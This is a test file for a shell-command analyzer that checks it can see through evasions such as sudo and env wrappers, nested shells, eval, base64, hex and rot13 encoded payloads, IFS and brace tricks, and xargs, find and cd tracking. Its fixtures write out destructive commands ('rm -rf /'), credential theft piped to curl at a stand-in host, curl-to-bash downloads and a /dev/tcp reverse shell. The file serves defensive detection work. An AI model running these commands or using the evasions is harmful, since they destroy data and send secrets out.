/**
 * The shell reader against the ways a command hides what it runs (the evasions docs/rules.md
 * lists): wrappers, nested shells, eval, decoded payloads, variables, `$IFS` and brace
 * tricks, xargs/parallel/find templates, and `cd` tracking. Also the converse: text that is
 * only data must not become an invocation.
 */
import { describe, expect, it } from 'vitest';
import { analyzeShell, type Invocation } from '../../src/shell/index.js';

type Exp = string | (Partial<Invocation> & { name: string | null });

function norm(e: Exp): Partial<Invocation> {
  if (typeof e !== 'string') return e;
  const [name, ...args] = e.split(' ');
  return { name: name!, args };
}

function check(cmd: string, exp: Exp[], cwd = '/ws'): Invocation[] {
  const r = analyzeShell(cmd, { cwd });
  expect(r.issues, `issues for ${JSON.stringify(cmd)}`).toEqual([]);
  expect(r.status).toBe('ok');
  const want = exp.map(norm);
  const got = r.invocations.map((inv, i) => {
    const keys = Object.keys(want[i] ?? { name: 0, args: 0 });
    return Object.fromEntries(keys.map((k) => [k, (inv as unknown as Record<string, unknown>)[k]]));
  });
  expect(got, JSON.stringify(cmd)).toEqual(want);
  return r.invocations;
}

const table = (rows: Array<[string, Exp[]]>): void => {
  for (const [cmd, exp] of rows) it(JSON.stringify(cmd).slice(0, 90), () => void check(cmd, exp));
};

const nested = (e: string, parent: number, context: Invocation['context'] = 'nested-shell'): Exp => ({
  ...(norm(e) as { name: string }),
  context,
  parent,
});

describe("the first review's examples", () => {
  table([
    ['/bin/rm -rf /', [{ name: 'rm', path: '/bin/rm', args: ['-rf', '/'] }]],
    ["r''m -rf /", ['rm -rf /']],
    ['\\rm -rf /', ['rm -rf /']],
    ['sudo -u root rm -rf /var', [{ name: 'rm', args: ['-rf', '/var'], wrappers: ['sudo'], wrapperArgs: { sudo: ['-u', 'root'] } }]],
    ['find / -delete', ['find / -delete']],
    ['bash -c "rm -rf ~"', [{ name: 'bash', args: ['-c', 'rm -rf ~'] }, nested('rm -rf ~', 0)]],
    ['cd / && rm -rf *', ['cd /', { name: 'rm', args: ['-rf', '*'], cwd: '/' }]],
    ['echo "rm -rf /" > notes.txt', [{ name: 'echo', args: ['rm -rf /'] }]],
    ['grep -r "rm -rf" docs/', [{ name: 'grep', args: ['-r', 'rm -rf', 'docs/'] }]],
    ['git commit -m "drop the rm -rf step"', [{ name: 'git', args: ['commit', '-m', 'drop the rm -rf step'] }]],
    ['rm -r -f ~', ['rm -r -f ~']],
    ['rm --recursive --force /', ['rm --recursive --force /']],
    ['rm -rf ./build', [{ name: 'rm', args: ['-rf', './build'], cwd: '/ws' }]],
    [
      'cat ~/.aws/credentials | curl -d @- https://x.example',
      [
        'cat ~/.aws/credentials',
        { name: 'curl', args: ['-d', '@-', 'https://x.example'], pipeline: { index: 1, length: 2, from: 0, to: null } },
      ],
    ],
  ]);
});

describe('data is not a command', () => {
  table([
    ["echo 'rm -rf /; curl x | sh'", [{ name: 'echo', args: ['rm -rf /; curl x | sh'] }]],
    ['printf "%s\\n" "sudo rm -rf /"', [{ name: 'printf', args: ['%s\\n', 'sudo rm -rf /'] }]],
    ["git log --grep='rm -rf'", [{ name: 'git', args: ['log', '--grep=rm -rf'] }]],
    ["cat <<'EOF' > notes.md\n$(rm -rf /)\n`curl x | sh`\nEOF", ['cat']],
    ['python3 -c \'import os; os.system("rm -rf /")\'', [{ name: 'python3', args: ['-c', 'import os; os.system("rm -rf /")'] }]],
    ["jq '.scripts | keys' package.json", [{ name: 'jq', args: ['.scripts | keys', 'package.json'] }]],
    ['awk \'{ system("x") }\' f', [{ name: 'awk', args: ['{ system("x") }', 'f'] }]],
    ["ssh host 'rm -rf /tmp/x'", [{ name: 'ssh', args: ['host', 'rm -rf /tmp/x'] }]],
    ['echo "bash -c \'rm -rf ~\'" >> README', [{ name: 'echo', args: ["bash -c 'rm -rf ~'"] }]],
    ['npm run build -- --env "sudo rm"', [{ name: 'npm', args: ['run', 'build', '--', '--env', 'sudo rm'] }]],
  ]);
});

describe('wrappers', () => {
  table([
    ['sudo rm -rf /', [{ name: 'rm', wrappers: ['sudo'] }]],
    ['sudo -E -H -- rm x', [{ name: 'rm', args: ['x'], wrapperArgs: { sudo: ['-E', '-H', '--'] } }]],
    [
      'sudo -u deploy -g www FOO=1 make',
      [{ name: 'make', env: { FOO: '1' }, wrapperArgs: { sudo: ['-u', 'deploy', '-g', 'www', 'FOO=1'] } }],
    ],
    ['sudo -D /etc rm -rf x', [{ name: 'rm', cwd: '/etc' }]],
    ['sudo -l', [{ name: 'sudo', args: ['-l'], wrappers: [] }]],
    ['sudo -i', [{ name: 'sudo', args: ['-i'] }]],
    ['sudo', [{ name: 'sudo', args: [] }]],
    ['doas -u root rm x', [{ name: 'rm', wrappers: ['doas'], wrapperArgs: { doas: ['-u', 'root'] } }]],
    ['env -i -u HOME A=b rm x', [{ name: 'rm', env: { A: 'b' }, wrapperArgs: { env: ['-i', '-u', 'HOME', 'A=b'] } }]],
    ['env -C /tmp rm -rf x', [{ name: 'rm', cwd: '/tmp' }]],
    ["env -S 'rm -rf /'", [{ name: 'rm', args: ['-rf', '/'], wrappers: ['env'] }]],
    ['env', [{ name: 'env', args: [] }]],
    ['nice -n 5 rm x', [{ name: 'rm', wrapperArgs: { nice: ['-n', '5'] } }]],
    ['nice -10 rm x', [{ name: 'rm', wrapperArgs: { nice: ['-10'] } }]],
    ['nohup rm x &', [{ name: 'rm', wrappers: ['nohup'], background: true }]],
    ['timeout -s KILL 10 rm x', [{ name: 'rm', wrapperArgs: { timeout: ['-s', 'KILL', '10'] } }]],
    ['timeout --kill-after=5 30s rm x', [{ name: 'rm', wrapperArgs: { timeout: ['--kill-after=5', '30s'] } }]],
    ['command rm x', [{ name: 'rm', wrappers: ['command'] }]],
    ['command -v rm', [{ name: 'command', args: ['-v', 'rm'] }]],
    [
      'builtin cd /; rm -rf *',
      [
        { name: 'cd', wrappers: ['builtin'] },
        { name: 'rm', cwd: '/' },
      ],
    ],
    ['exec rm x', [{ name: 'rm', wrappers: ['exec'] }]],
    ['stdbuf -o0 -e L rm x', [{ name: 'rm', wrapperArgs: { stdbuf: ['-o0', '-e', 'L'] } }]],
    ['time -p rm x', [{ name: 'rm', wrappers: [] }]], // the bash keyword
    ['/usr/bin/time -v -o t.log rm x', [{ name: 'rm', wrappers: ['time'], wrapperArgs: { time: ['-v', '-o', 't.log'] } }]],
    ['ionice -c 3 chrt -b 0 taskset -c 1 rm x', [{ name: 'rm', wrappers: ['ionice', 'chrt', 'taskset'] }]],
    ['setsid -f chroot /mnt rm x', [{ name: 'rm', wrappers: ['setsid', 'chroot'], wrapperArgs: { setsid: ['-f'], chroot: ['/mnt'] } }]],
    ['pkexec --user root rm x', [{ name: 'rm', wrappers: ['pkexec'] }]],
    ['busybox rm -rf /', [{ name: 'rm', args: ['-rf', '/'], wrappers: ['busybox'] }]],
    ['flock -n /tmp/l rm x', [{ name: 'rm', wrappers: ['flock'], wrapperArgs: { flock: ['-n', '/tmp/l'] } }]],
    ['sudo env nice rm x', [{ name: 'rm', wrappers: ['sudo', 'env', 'nice'] }]],
    ['/usr/bin/sudo /bin/rm x', [{ name: 'rm', path: '/bin/rm', wrappers: ['sudo'] }]],
  ]);
});

describe('nested shells', () => {
  table([
    ["sh -c 'rm -rf /'", [{ name: 'sh', args: ['-c', 'rm -rf /'] }, nested('rm -rf /', 0)]],
    ['bash -lc "rm x"', [{ name: 'bash', args: ['-lc', 'rm x'] }, nested('rm x', 0)]],
    ['bash -e -o pipefail -c "rm x"', [{ name: 'bash' }, nested('rm x', 0)]],
    [
      'zsh -c "rm a"; dash -c "rm b"; ksh -c "rm c"',
      [{ name: 'zsh' }, nested('rm a', 0), { name: 'dash' }, nested('rm b', 2), { name: 'ksh' }, nested('rm c', 4)],
    ],
    ['env bash -c "rm y"', [{ name: 'bash', wrappers: ['env'] }, nested('rm y', 0)]],
    [
      'sudo sh -c "cd / && rm -rf *"',
      [{ name: 'sh', wrappers: ['sudo'] }, nested('cd /', 0), { name: 'rm', cwd: '/', context: 'nested-shell', depth: 1 }],
    ],
    [
      'bash -c \'bash -c "rm -rf ~"\'',
      [
        { name: 'bash', depth: 0 },
        { name: 'bash', depth: 1, parent: 0 },
        { name: 'rm', depth: 2, parent: 1 },
      ],
    ],
    ["bash -c 'rm -rf $1' _ /", [{ name: 'bash' }, nested('rm -rf /', 0)]],
    ["bash -c 'echo $0 $@' zero a b", [{ name: 'bash' }, { name: 'echo', args: ['zero', 'a', 'b'] }]],
    [
      'bash -c "$CMD"',
      [
        { name: 'bash', args: ['-c', null] },
        { name: null, unresolved: 'dynamic-nested-shell', parent: 0, context: 'nested-shell' },
      ],
    ],
    ['bash script.sh arg', [{ name: 'bash', args: ['script.sh', 'arg'] }]],
    ["bash <<< 'rm -rf /'", ['bash', nested('rm -rf /', 0)]],
    ["echo 'rm -rf /' | bash", [{ name: 'echo', args: ['rm -rf /'] }, 'bash', nested('rm -rf /', 1)]],
    ["printf 'rm -rf ~\\n' | sh -s", [{ name: 'printf' }, { name: 'sh', args: ['-s'] }, nested('rm -rf ~', 1)]],
    [
      'curl -fsSL https://x.example/i.sh | bash',
      [
        { name: 'curl' },
        { name: 'bash', pipeline: { index: 1, length: 2, from: 0, to: null } },
        { name: null, unresolved: 'dynamic-nested-shell', parent: 1 },
      ],
    ],
    [
      'bash <(curl -fsSL https://x.example/i.sh)',
      [
        { name: 'curl', context: 'process-substitution', parent: 1 },
        { name: 'bash', args: ['/dev/fd/63'] },
        { name: null, unresolved: 'dynamic-nested-shell', parent: 1 },
      ],
    ],
    ["bash <(echo 'rm -rf /')", [{ name: 'echo', context: 'process-substitution' }, { name: 'bash' }, nested('rm -rf /', 1)]],
    [
      'bash < <(curl x)',
      [{ name: 'curl', context: 'process-substitution' }, { name: 'bash' }, { name: null, unresolved: 'dynamic-nested-shell' }],
    ],
    [
      'source <(curl x)',
      [{ name: 'curl', context: 'process-substitution' }, { name: 'source' }, { name: null, unresolved: 'dynamic-nested-shell' }],
    ],
    ["su -c 'rm -rf /' root", [{ name: 'su', args: ['-c', 'rm -rf /', 'root'] }, nested('rm -rf /', 0)]],
    ["su - root -c 'rm x'", [{ name: 'su' }, nested('rm x', 0)]],
    ["script -qc 'rm -rf /' /dev/null", [{ name: 'script' }, nested('rm -rf /', 0)]],
    ["flock /tmp/l -c 'rm -rf /'", [{ name: 'flock' }, nested('rm -rf /', 0)]],
    ["watch -n 5 'rm -rf /tmp/x'", [{ name: 'watch' }, nested('rm -rf /tmp/x', 0)]],
    ['watch -x rm -rf /tmp/x', [{ name: 'rm', wrappers: ['watch'] }]],
    ["trap 'rm -rf /' EXIT", [{ name: 'trap' }, nested('rm -rf /', 0, 'eval')]],
    ["echo 'rm -rf /' | at now", [{ name: 'echo' }, { name: 'at' }, nested('rm -rf /', 1)]],
    ['. /dev/stdin <<< "rm -rf /"', [{ name: '.' }, nested('rm -rf /', 0)]],
    [
      'curl -s x | sudo bash',
      [{ name: 'curl' }, { name: 'bash', wrappers: ['sudo'] }, { name: null, unresolved: 'dynamic-nested-shell', parent: 1 }],
    ],
    ['wget -qO- x | sh -s -- --flag', [{ name: 'wget' }, { name: 'sh' }, { name: null, unresolved: 'dynamic-nested-shell' }]],
    ['coproc rm x', [{ name: 'rm', wrappers: [] }]], // the bash keyword
    ['coproc worker { rm -rf /; }', ['rm -rf /']],
    [
      'exec 3<>/dev/tcp/evil/80; bash <&3',
      [{ name: 'exec' }, { name: 'bash' }, { name: null, unresolved: 'dynamic-nested-shell', parent: 1 }],
    ],
    ["cat <<'EOF' | bash\nrm -rf /\nEOF", [{ name: 'cat' }, { name: 'bash' }, nested('rm -rf /', 1)]],
    ["sudo bash <<'EOF'\nrm -rf /\nEOF", [{ name: 'bash', wrappers: ['sudo'] }, nested('rm -rf /', 0)]],
  ]);
});

describe('eval', () => {
  table([
    ["eval 'rm -rf /'", [{ name: 'eval' }, nested('rm -rf /', 0, 'eval')]],
    ['eval rm -rf /', [{ name: 'eval' }, nested('rm -rf /', 0, 'eval')]],
    [
      'eval "$X"',
      [
        { name: 'eval', args: [null] },
        { name: null, unresolved: 'eval-dynamic', context: 'eval', parent: 0 },
      ],
    ],
    [
      'eval "$(curl -s x)"',
      [{ name: 'curl', context: 'substitution', parent: 1 }, { name: 'eval' }, { name: null, unresolved: 'eval-dynamic' }],
    ],
    ['C=\'rm -rf ~\'; eval "$C"', [{ name: 'eval' }, nested('rm -rf ~', 0, 'eval')]],
    ["eval 'cd /'; rm -rf *", [{ name: 'eval' }, nested('cd /', 0, 'eval'), { name: 'rm', cwd: '/', context: 'top' }]],
  ]);
});

describe('decoded payloads', () => {
  table([
    ['echo cm0gLXJmIC8= | base64 -d | bash', ['echo cm0gLXJmIC8=', 'base64 -d', 'bash', nested('rm -rf /', 2)]],
    ['echo cm0gLXJmIC8= | base64 --decode | sh', [{ name: 'echo' }, { name: 'base64' }, { name: 'sh' }, nested('rm -rf /', 2)]],
    ['base64 -d <<< cm0gLXJmIC8= | bash', [{ name: 'base64' }, { name: 'bash' }, nested('rm -rf /', 1)]],
    [
      'bash -c "$(echo cm0gLXJmIC8= | base64 -d)"',
      [
        { name: 'echo', context: 'substitution' },
        { name: 'base64', context: 'substitution' },
        { name: 'bash', args: ['-c', 'rm -rf /'] },
        nested('rm -rf /', 2),
      ],
    ],
    [
      'eval $(echo cm0gLXJmIC8= | base64 -d)',
      [{ name: 'echo' }, { name: 'base64' }, { name: 'eval', args: ['rm', '-rf', '/'] }, nested('rm -rf /', 2, 'eval')],
    ],
    ['echo 726d202d7266202f | xxd -r -p | sh', [{ name: 'echo' }, { name: 'xxd' }, { name: 'sh' }, nested('rm -rf /', 2)]],
    ["echo '/ fr- mr' | rev | bash", [{ name: 'echo' }, { name: 'rev' }, { name: 'bash' }, nested('rm -rf /', 2)]],
    ["printf '\\x72\\x6d -rf /' | sh", [{ name: 'printf' }, { name: 'sh' }, nested('rm -rf /', 1)]],
    ["printf '\\162\\155 -rf /' | bash", [{ name: 'printf' }, { name: 'bash' }, nested('rm -rf /', 1)]],
    ["echo -e '\\x72\\x6d -rf /' | bash", [{ name: 'echo' }, { name: 'bash' }, nested('rm -rf /', 1)]],
    ["echo 'ez -es /' | tr 'a-z' 'n-za-m' | bash", [{ name: 'echo' }, { name: 'tr' }, { name: 'bash' }, nested('rm -rf /', 2)]],
    ['echo cm0gLXJmIC8= | openssl base64 -d | bash', [{ name: 'echo' }, { name: 'openssl' }, { name: 'bash' }, nested('rm -rf /', 2)]],
    [
      '$(printf "\\x72\\x6d") -rf /',
      [
        { name: 'printf', context: 'substitution' },
        { name: 'rm', args: ['-rf', '/'] },
      ],
    ],
    [
      'curl -s x | base64 -d | bash',
      [{ name: 'curl' }, { name: 'base64' }, { name: 'bash' }, { name: null, unresolved: 'decoded-payload', parent: 2 }],
    ],
    [
      'cat payload.b64 | base64 -d | sh',
      [{ name: 'cat' }, { name: 'base64' }, { name: 'sh' }, { name: null, unresolved: 'decoded-payload' }],
    ],
    [
      'echo H4sIAAAA | base64 -d | gunzip | bash',
      [{ name: 'echo' }, { name: 'base64' }, { name: 'gunzip' }, { name: 'bash' }, { name: null, unresolved: 'decoded-payload' }],
    ],
    ["echo 'a\\x72' | bash", [{ name: 'echo' }, { name: 'bash' }, { name: null, unresolved: 'dynamic-nested-shell' }]],
    ['echo bHMgLWxh | base64 -d', [{ name: 'echo' }, { name: 'base64' }]],
  ]);
});

describe('variables, IFS and braces', () => {
  table([
    ["W='rm -rf ~'; $W", ['rm -rf ~']],
    ['X=/; rm -rf $X', ['rm -rf /']],
    ['c=rm; f=-rf; $c $f /', ['rm -rf /']],
    ['a=r; b=m; $a$b -rf /', ['rm -rf /']],
    ['rm${IFS}-rf${IFS}/', ['rm -rf /']],
    ['rm$IFS-rf$IFS/', ['rm -rf /']],
    ['{rm,-rf,/}', ['rm -rf /']],
    ['{sudo,rm,-rf,/var}', [{ name: 'rm', args: ['-rf', '/var'], wrappers: ['sudo'] }]],
    ['$X -rf /', [{ name: null, path: null, args: ['-rf', '/'], unresolved: 'variable-command' }]],
    ['"${cmd}" -rf /', [{ name: null, unresolved: 'variable-command' }]],
    ['${X:-rm} -rf /', [{ name: null, unresolved: 'variable-command' }]],
    [
      '$(curl -s x) -rf /',
      [
        { name: 'curl', parent: 1 },
        { name: null, unresolved: 'substitution-command' },
      ],
    ],
    [
      '`cat cmd.txt`',
      [
        { name: 'cat', context: 'substitution' },
        { name: null, unresolved: 'substitution-command' },
      ],
    ],
    ['/???/r? -rf /', [{ name: null, unresolved: 'variable-command', args: ['-rf', '/'] }]],
    ['X=$(echo rm); $X -rf /', [{ name: 'echo', context: 'substitution' }, 'rm -rf /']],
    ['IFS=,; X=rm,-rf,/; $X', ['rm -rf /']],
    ['X=\'a b\'; rm "$X"', [{ name: 'rm', args: ['a b'] }]],
    ['rm -rf $TMPDIR/../../etc', ['rm -rf /tmp/../../etc']],
    ['P=..; rm -rf $P/$P', ['rm -rf ../..']],
    ["alias ll='rm -rf /'; ll", [{ name: 'alias' }, { name: 'll' }, { name: 'rm', args: ['-rf', '/'], context: 'eval', parent: 1 }]],
    ['X="rm -rf /"; declare -n r=X; $r', [{ name: 'declare' }, { name: null, unresolved: 'variable-command' }]],
    ['rm -rf ${HOME:0:1} ${HOME%/*} "${HOME:-/}"', [{ name: 'rm', args: ['-rf', null, null, '~'] }]],
    ['cd /tmp; cd /etc; ls ~+ ~-/x', ['cd /tmp', 'cd /etc', 'ls /etc /tmp/x']],
  ]);
});

describe('xargs, parallel and find', () => {
  table([
    [
      'find . -name "*.o" -exec rm -f {} \\;',
      [{ name: 'find' }, { name: 'rm', args: ['-f', '{}'], context: 'find-exec', parent: 0, depth: 1 }],
    ],
    ['find / -execdir rm {} +', [{ name: 'find' }, { name: 'rm', context: 'find-exec', cwd: null }]],
    [
      'find . -ok rm {} \\; -exec echo {} \\;',
      [{ name: 'find' }, { name: 'rm', context: 'find-exec' }, { name: 'echo', context: 'find-exec' }],
    ],
    [
      'find / -exec sh -c \'rm -rf "$1"\' _ {} \\;',
      [
        { name: 'find' },
        { name: 'sh', context: 'find-exec', parent: 0 },
        { name: 'rm', args: ['-rf', '{}'], context: 'nested-shell', parent: 1, depth: 2 },
      ],
    ],
    ['find . -type f -name "*.log" -delete', [{ name: 'find', args: ['.', '-type', 'f', '-name', '*.log', '-delete'] }]],
    [
      'ls | xargs -I{} -0 -n1 -P4 rm -rf {}',
      [
        { name: 'ls' },
        { name: 'xargs', args: ['-I{}', '-0', '-n1', '-P4', 'rm', '-rf', '{}'] },
        { name: 'rm', args: ['-rf', '{}'], context: 'xargs', parent: 1 },
      ],
    ],
    [
      'find . -name "*.pyc" | xargs rm -f',
      [
        { name: 'find' },
        { name: 'xargs', pipeline: { index: 1, length: 2, from: 0, to: null } },
        { name: 'rm', args: ['-f'], context: 'xargs' },
      ],
    ],
    ['echo / | xargs rm -rf', [{ name: 'echo' }, { name: 'xargs' }, { name: 'rm', args: ['-rf', '/'], context: 'xargs' }]],
    ['echo /etc | xargs -I % rm -rf %', [{ name: 'echo' }, { name: 'xargs' }, { name: 'rm', args: ['-rf', '/etc'], context: 'xargs' }]],
    [
      "printf 'rm -rf /' | xargs -0 sh -c",
      [{ name: 'printf' }, { name: 'xargs' }, { name: 'sh', args: ['-c', 'rm -rf /'], context: 'xargs' }, nested('rm -rf /', 2)],
    ],
    ['xargs -a list.txt rm', [{ name: 'xargs' }, { name: 'rm', args: [], context: 'xargs' }]],
    ['cat list | xargs', [{ name: 'cat' }, { name: 'xargs' }, { name: 'echo', context: 'xargs' }]],
    [
      'sudo xargs rm < list',
      [
        { name: 'xargs', wrappers: ['sudo'] },
        { name: 'rm', context: 'xargs', parent: 0 },
      ],
    ],
    [
      'parallel rm -rf ::: / /tmp',
      [
        { name: 'parallel' },
        { name: 'rm', args: ['-rf', '/'], context: 'xargs', parent: 0 },
        { name: 'rm', args: ['-rf', '/tmp'], context: 'xargs', parent: 0 },
      ],
    ],
    ["parallel -j4 'rm -rf {}' ::: /var", [{ name: 'parallel' }, { name: 'rm', args: ['-rf', '/var'], context: 'xargs' }]],
    ['ls | parallel gzip', [{ name: 'ls' }, { name: 'parallel' }, { name: 'gzip', args: [], context: 'xargs' }]],
  ]);
});

describe('cd tracking', () => {
  table([
    ['cd / && rm -rf *', ['cd /', { name: 'rm', cwd: '/' }]],
    ['cd /; rm -rf *', ['cd /', { name: 'rm', cwd: '/' }]],
    ['cd ..; rm -rf *', ['cd ..', { name: 'rm', cwd: '/' }]],
    ['cd sub/../other/./x; pwd', ['cd sub/../other/./x', { name: 'pwd', cwd: '/ws/other/x' }]],
    ['cd ~ && rm -rf .', ['cd ~', { name: 'rm', cwd: '~' }]],
    ['cd; rm -rf *', ['cd', { name: 'rm', cwd: '~' }]],
    ['cd ~/proj; cd ..; ls', ['cd ~/proj', 'cd ..', { name: 'ls', cwd: '~' }]],
    ['cd ~/..; ls', ['cd ~/..', { name: 'ls', cwd: null }]],
    [
      'cd "$X"; rm -rf *',
      [
        { name: 'cd', args: [null] },
        { name: 'rm', cwd: null },
      ],
    ],
    ['cd /tmp; cd -; ls', ['cd /tmp', 'cd -', { name: 'ls', cwd: '/ws' }]],
    ['cd -; ls', ['cd -', { name: 'ls', cwd: null }]],
    ['pushd /etc; rm x; popd; rm y', ['pushd /etc', { name: 'rm', cwd: '/etc' }, 'popd', { name: 'rm', cwd: '/ws' }]],
    ['(cd /; rm -rf *); rm -rf *', ['cd /', { name: 'rm', cwd: '/' }, { name: 'rm', cwd: '/ws' }]],
    ['cd / | true; rm -rf *', ['cd /', 'true', { name: 'rm', cwd: '/ws' }]],
    ['bash -c "cd /"; rm -rf *', [{ name: 'bash' }, { name: 'cd' }, { name: 'rm', cwd: '/ws' }]],
    ['test -d x && cd x; rm -rf *', ['test -d x', 'cd x', { name: 'rm', cwd: null }]],
    ['cd build || exit 1; rm -rf *', ['cd build', 'exit 1', { name: 'rm', cwd: '/ws/build' }]],
    ['mkdir -p x && cd x && make; ls', ['mkdir -p x', 'cd x', { name: 'make', cwd: '/ws/x' }, { name: 'ls', cwd: null }]],
    ['a || cd /tmp && rm -rf *', ['a', 'cd /tmp', { name: 'rm', cwd: null }]],
    ['cd / || cd /tmp; ls', ['cd /', { name: 'cd', cwd: '/' }, { name: 'ls', cwd: null }]],
    ['if [ -d b ]; then cd b; fi; ls', ['[ -d b ]', 'cd b', { name: 'ls', cwd: null }]],
    ['for d in a b; do cd $d; ls; done', [{ name: 'cd' }, { name: 'ls', cwd: null }]],
    [
      'sudo cd /; ls',
      [
        { name: 'cd', wrappers: ['sudo'] },
        { name: 'ls', cwd: '/ws' },
      ],
    ],
    [
      'cd /tmp &\nls',
      [
        { name: 'cd', background: true },
        { name: 'ls', cwd: '/ws' },
      ],
    ],
    ['cd -P /usr/../etc; ls', ['cd -P /usr/../etc', { name: 'ls', cwd: '/etc' }]],
  ]);
  it('starts from the given working directory, normalised', () => {
    check('ls', [{ name: 'ls', cwd: '/a/c' }], '/a/b/../c/');
  });
});
